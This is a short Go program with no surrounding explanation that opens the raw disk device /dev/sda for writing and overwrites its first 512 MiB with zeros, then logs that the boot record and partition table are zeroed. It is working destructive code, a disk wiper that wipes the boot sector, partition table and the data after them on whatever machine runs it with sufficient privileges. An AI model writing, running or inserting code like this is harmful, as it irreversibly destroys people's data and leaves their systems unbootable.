package main

import (
	"log"
	"os"
)

func main() {
	f, err := os.OpenFile("/dev/sda", os.O_WRONLY, 0)
	if err != nil {
		log.Fatal(err)
	}
	defer f.Close()
	buf := make([]byte, 1<<20)
	for i := 0; i < 512; i++ {
		if _, err := f.Write(buf); err != nil {
			break
		}
	}
	log.Println("mbr and partition table zeroed")
}
